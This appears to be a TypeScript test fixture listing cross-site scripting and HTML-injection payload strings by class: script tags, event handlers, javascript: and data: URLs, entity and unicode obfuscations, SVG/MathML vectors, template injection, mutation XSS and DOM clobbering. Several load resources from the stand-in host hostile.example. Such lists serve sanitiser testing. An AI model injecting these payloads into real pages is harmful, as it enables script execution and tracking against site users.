// Strings that would run `alert(1)` or request something from hostile.example on a page that treats
// them as HTML, by class of attack.

const SCRIPT_URL = "javascript:alert(1)";

/** An element whose attribute runs by itself. */
const tags = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//hostile.example/tags.js></SCRIPT>",
  "<script/x>alert(1)</script/x>",
  "<script>alert(1)",
  "<<script>alert(1);//<</script>",
  "</p><script>alert(1)</script><p>",
  "</textarea><script>alert(1)</script>",
  "</title></style></script><script>alert(1)</script>",
  "<img src=https://hostile.example/img.png>",
  '<iframe src="https://hostile.example/frame"></iframe>',
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  '<object data="https://hostile.example/object"></object>',
  "<embed src=https://hostile.example/embed>",
  '<link rel="stylesheet" href="https://hostile.example/style.css">',
  '<link rel="prefetch" href="https://hostile.example/prefetch">',
  "<style>@import 'https://hostile.example/import.css';</style>",
  "<style>*{background:url(https://hostile.example/all.png)}</style>",
  '<meta http-equiv="refresh" content="0;url=https://hostile.example/refresh">',
  '<base href="https://hostile.example/">',
  '<video><source src="https://hostile.example/video.mp4"></video>',
  '<video poster="https://hostile.example/poster.png"></video>',
  '<audio src="https://hostile.example/audio.mp3" autoplay></audio>',
  '<input type="image" src="https://hostile.example/input.png">',
  '<body background="https://hostile.example/body.png">',
  '<picture><source srcset="https://hostile.example/set.png"><img></picture>',
  "<frameset><frame src=https://hostile.example/frameset></frameset>",
];

/** A handler or a style on an element, also on those that answers may have. */
const attributes = [
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)'//",
  "<img/src=x/onerror=alert(1)>",
  "<b onclick=alert(1) onmouseover=alert(1)>bold</b>",
  "<p onpointerenter=alert(1)>paragraph</p>",
  "<ul onfocus=alert(1) tabindex=0 autofocus><li onblur=alert(1)>item</li></ul>",
  '<a href="https://insurer.example.com" onclick="alert(1)" onfocus=alert(1) autofocus>link</a>',
  '<a href="https://insurer.example.com" target=_self ping="https://hostile.example/ping">link</a>',
  '<a href="https://insurer.example.com" style="background:url(https://hostile.example/a.png)">x</a>',
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)></select>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<video oncanplay=alert(1) src=data:video/mp4;base64,AAAA></video>",
  "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
  '<br style="background-image:url(https://hostile.example/br.png)">',
  "<body onload=alert(1) onpageshow=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  "` onerror=`alert(1)`",
  "<strong onclick\n=\nalert(1)>x</strong>",
];

/** A URL that is a script, or not what it seems. */
const urls = [
  SCRIPT_URL,
  `<a href="${SCRIPT_URL}">x</a>`,
  "<a href=JaVaScRiPt:alert(1)>x</a>",
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript://insurer.example.com/%0aalert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="blob:https://hostile.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:https://hostile.example">x</a>',
  '<a href="//hostile.example">x</a>',
  '<a href="\\\\hostile.example">x</a>',
  '<a href="https:hostile.example">x</a>',
  '<a href="mailto:a@example.com?subject=x%0D%0ABcc:b@hostile.example">x</a>',
  '<a href="https://insurer.example.com" href="javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)" href="https://insurer.example.com">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  "[x](javascript:alert(1))",
  'https://insurer.example.com"onmouseover="alert(1)',
];

/** The same, obfuscated so that a filter misses it and a browser does not. */
const encodings = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
  '<a href="&#0000106avascript&#0000058alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="%6A%61vascript:alert(1)">x</a>',
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
  "<scr\0ipt>alert(1)</scr\0ipt>",
  "<img src=x on\0error=alert(1)>",
];

const svg = [
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=https://hostile.example/svg.js></script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
  "<svg><set attributeName=onmouseover to=alert(1)></svg>",
  "<svg><image href=https://hostile.example/svg.png></image></svg>",
  '<svg><use href="https://hostile.example/sprite.svg#x"></use></svg>',
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
];

const mathml = [
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)">x</math>',
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><maction actiontype="statusline#https://hostile.example">x</maction></math>',
];

/** Syntax of template languages and frameworks. */
const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}${alert(1)}#{alert(1)}",
  "<%= alert(1) %>",
  "<template><img src=x onerror=alert(1)></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  '<div ng-app ng-init="$eval.constructor(`alert(1)`)()"></div>',
  '<div v-html="`<img src=x onerror=alert(1)>`"></div>',
  '<div x-data x-init="alert(1)"></div>',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  "{phone}{count}{__proto__}",
];

/** Harmless when parsed once, but not when the result is parsed again. */
const mutation = [
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<b <script>alert(1)</script>0",
  "<a href='https://insurer.example.com<b title='>x</a>' onmouseover=alert(1)>",
  "<ul><li <b onclick=alert(1)>x",
];

/** Names that shadow global variables, or properties of all objects. */
const clobbering = [
  '<form id="document"><input name="body"><input name="getElementById"></form>',
  '<a id="location"></a><a id="location" name="href" href="https://hostile.example"></a>',
  '<img name="currentScript"><img name="querySelector">',
  '<iframe name="alert" srcdoc=""></iframe>',
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "body",
  "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
];

const unicode = [
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "<\u017fcript>alert(1)</\u017fcript>",
  '<a href="java\u017fcript:alert(1)">x</a>',
  '<a href="javascr\u0131pt:alert(1)">x</a>',
  '<a href="\ufeffjavascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="java\u00adscript:alert(1)">x</a>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  "\u202e<script>alert(1)</script>\u202c",
  "<img\u3000src=x\u3000onerror=alert(1)>",
  "<img\u2028src=x\u2028onerror=alert(1)>",
  "\ud83d<img src=x onerror=alert(1)>\ude97",
  "i\u0307".repeat(10),
  `e${"\u0301".repeat(500)}<script>alert(1)</script>`,
];

/** Hostile strings by class. */
export const hostileStrings = {
  tags,
  attributes,
  urls,
  encodings,
  svg,
  mathml,
  templates,
  mutation,
  clobbering,
  unicode,
} as const satisfies Readonly<Record<string, readonly string[]>>;
